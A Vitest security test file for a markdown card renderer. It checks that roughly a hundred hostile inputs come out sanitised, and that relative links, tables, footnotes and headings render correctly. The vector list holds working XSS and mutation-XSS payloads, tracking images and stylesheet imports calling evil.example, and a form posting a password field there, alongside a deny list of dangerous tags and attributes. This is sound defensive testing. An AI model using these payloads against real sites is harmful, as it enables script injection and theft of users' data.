import { describe, expect, it } from 'vitest'
import { resolveAddress } from './address.js'
import { renderCard } from './render-card.js'

const PLACE = { basePath: '/acme/x', revision: 'refs/pr/1' }
const html = (markdown: string): string => renderCard(markdown, PLACE).html

/** Every way we know to make a card run, load, frame, restyle or impersonate something. */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONLOAD="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/a 1x" src=a.png>',
  '<img src="https://evil.example/track.gif?u=1">',
  '<img src="//evil.example/track.gif">',
  '<img src="\\\\evil.example\\track.gif">',
  '<img src="/\\evil.example/track.gif">',
  '<img src="ht\ntps://evil.example/t.gif">',
  '<img src="https:evil.example/t.gif">',
  '![x](https://evil.example/t.gif)',
  '![x](//evil.example/t.gif)',
  '![x][r]\n\n[r]: https://evil.example/t.gif',
  '<picture><source srcset="https://evil.example/a"><img src=a.png></picture>',
  '<video src="https://evil.example/v.mp4" autoplay onplay=alert(1) poster="https://evil.example/p.png"></video>',
  '<video><source src="https://evil.example/v.mp4" onerror=alert(1)></video>',
  '<audio src=javascript:alert(1) controls></audio>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<java\\script:alert(1)>)',
  '[x](data:text/html,1)',
  '<javascript:alert(1)>',
  '<a href=x target=_blank onclick=alert(1) ping="https://evil.example">x</a>',
  '<a href="x" style="position:fixed;inset:0">x</a>',
  '<div style="background:url(https://evil.example/a)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import url(https://evil.example/a.css);</style>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/a.swf"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<input type=image src="https://evil.example/a" onerror=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select onchange=alert(1)><option>x</select>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<html onmouseover=alert(1)>x</html>',
  '<p id="login-form" name="cookie">x</p>',
  '<a id=location href=x>x</a><img name=getElementById src=a.png>',
  '<table background="https://evil.example/a"><tr><td background="https://evil.example/b">x</table>',
  '<p class="modal overlay" hidden contenteditable tabindex=0 accesskey=x>x</p>',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$$\\url{javascript:alert(1)}$$',
  '$$\\includegraphics{https://evil.example/a.png}$$',
  '$$\\htmlStyle{position:fixed}{x}\\htmlId{login}{y}\\htmlData{x=1}{z}$$',
  '$$\\color{red;background:url(https://evil.example)}x$$',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  '```html" onmouseover="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '[^"><script>alert(1)</script>]: x\n\ny[^"><script>alert(1)</script>]',
  '# <img src=x onerror=alert(1)> heading',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
  '[a](x "title\\" onmouseover=\\"alert(1)")',
  '<b onmouseover=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="#"><img src="a.png" usemap="#m"></a><map name=m><area href="javascript:alert(1)"></map>',
]

/** Tags of a piece of HTML with their attributes; text is left out, so quoted code in a card is no alarm. */
function tagsOf(markup: string): { tag: string; attributes: [string, string][] }[] {
  return [...markup.matchAll(/<([a-zA-Z][\w:-]*)((?:\s+[^\s=>"']+(?:="[^"]*")?)*)\s*\/?>/g)].map((match) => ({
    tag: (match[1] ?? '').toLowerCase(),
    attributes: [...(match[2] ?? '').matchAll(/([^\s=>"']+)(?:="([^"]*)")?/g)].map((pair) => [
      pair[1]?.toLowerCase() ?? '',
      pair[2] ?? '',
    ]),
  }))
}

const FORBIDDEN_TAGS =
  /^(?:script|style|iframe|object|embed|applet|form|button|textarea|select|link|meta|base|svg|template|frame|frameset|portal|dialog|noscript|xmp|map|area|source|picture)$/
const ALLOWED_CLASSES =
  /^(?:language-[\w+#.-]+|math-\w+|katex|katex-error|external-media|task-list-item|contains-task-list|sr-only|footnotes|data-footnote-backref)$/

describe('rendered card', () => {
  it(`has no way out in any of ${VECTORS.length} hostile cards`, () => {
    for (const vector of VECTORS) {
      const markup = html(vector)
      expect(/<(?!\/?[a-zA-Z])/.test(markup), vector).toBe(false)
      for (const { tag, attributes } of tagsOf(markup)) {
        expect(tag, vector).not.toMatch(FORBIDDEN_TAGS)
        for (const [name, value] of attributes) {
          expect(name, vector).not.toMatch(
            /^on|^style$|^srcset$|^srcdoc$|^formaction$|^action$|^background$|^poster$|^target$|^ping$|^usemap$|^xlink|^contenteditable$|^autofocus$|^autoplay$/,
          )
          if (name === 'src') expect(value, vector).toMatch(/^\/acme\/x\/resolve\//)
          if (name === 'href') expect(value, vector).toMatch(/^(?:https?:\/\/|mailto:|#|\/(?![/\\]))/)
          if (name === 'id' || name === 'name') expect(value, vector).toMatch(/^card-/)
          if (name === 'class')
            for (const one of value.split(' ').filter(Boolean)) expect(one, vector).toMatch(ALLOWED_CLASSES)
        }
      }
    }
  })

  it('[M5] leads relative addresses into the repository at the revision shown', () => {
    expect(html('[guide](docs/guide.md#start)')).toContain('href="/acme/x/blob/refs%2Fpr%2F1/docs/guide.md#start"')
    expect(html('![logo](img/logo.png)')).toContain('src="/acme/x/resolve/refs%2Fpr%2F1/img/logo.png"')
    expect(html('<img src="./a b.png" width=100 align=right>')).toContain(
      'src="/acme/x/resolve/refs%2Fpr%2F1/a%20b.png"',
    )
    expect(html('[up](../../../../settings)')).toContain('href="/acme/x/blob/refs%2Fpr%2F1/settings"')
    expect(html('[site](/models)')).toContain('href="/models"')
    expect(html('[section](#use)')).toContain('href="#card-use"')
  })

  it('marks links that people wrote, and turns pictures of other sites into links', () => {
    expect(html('[x](https://other.example/a)')).toContain(
      '<a href="https://other.example/a" rel="noopener ugc nofollow">',
    )
    const picture = html('![badge](https://other.example/b.svg)')
    expect(picture).not.toContain('<img')
    expect(picture).toContain('>badge</a>')
  })

  it('renders tables, tasks, footnotes, code and formulas', () => {
    const markup = html(
      '| a |\n|---|\n| b |\n\n- [x] done\n\nnote[^1]\n\n[^1]: text\n\n```python\nx = 1\n```\n\n$$\\frac{1}{2}$$ costs $5 or $6',
    )
    for (const part of [
      '<table>',
      'type="checkbox"',
      'card-fn-1',
      'class="language-python"',
      '<mfrac>',
      'costs $5 or $6',
    ]) {
      expect(markup).toContain(part)
    }
  })

  it('lists headings with unique ids', () => {
    const { toc } = renderCard('# A *b*\n## Same\n## Same\n### <b>!</b>', PLACE)
    expect(toc).toEqual([
      { id: 'card-a-b', text: 'A b', depth: 1 },
      { id: 'card-same', text: 'Same', depth: 2 },
      { id: 'card-same-1', text: 'Same', depth: 2 },
      { id: 'card-section', text: '!', depth: 3 },
    ])
  })

  it('refuses addresses it cannot vouch for', () => {
    for (const raw of ['', 'javascript:x', 'https://', 'ftp://x/y', `https://x/${'a'.repeat(5_000)}`]) {
      expect(resolveAddress(raw, PLACE, false), raw).toBeNull()
    }
  })
})
